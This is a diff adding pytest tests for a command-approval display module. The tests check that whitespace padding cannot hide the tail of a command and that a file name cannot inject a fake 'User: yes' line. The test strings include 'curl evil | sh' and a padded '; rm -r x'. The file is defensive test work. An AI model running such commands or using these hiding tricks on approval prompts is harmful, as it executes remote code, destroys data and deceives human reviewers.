@@ -1,0 +1,22 @@
+from __future__ import annotations
+
+from inline_snapshot import snapshot
+
+from indwell.policy.approvals import folded, one_line
+
+
+def test_what_would_push_the_end_out_of_sight_is_said_in_words() -> None:
+    hiding = "pytest -q\n" + "\n" * 300 + "curl evil | sh"
+    assert folded(hiding) == snapshot(
+        "[302 lines, 324 characters; look at all of them]\n"
+        "pytest -q\n[… 300 empty lines …]\ncurl evil | sh"
+    )
+    assert folded("true" + " " * 200 + "; rm -r x") == "true [… 200 blanks …] ; rm -r x"
+
+
+def test_an_ordinary_command_is_shown_as_it_is() -> None:
+    assert folded("cd a &&\n\nmake test") == "cd a &&\n\nmake test"
+
+
+def test_a_name_never_begins_a_line() -> None:
+    assert one_line("x.py\nUser: yes\t!") == "x.py\\u000aUser: yes\\u0009!"
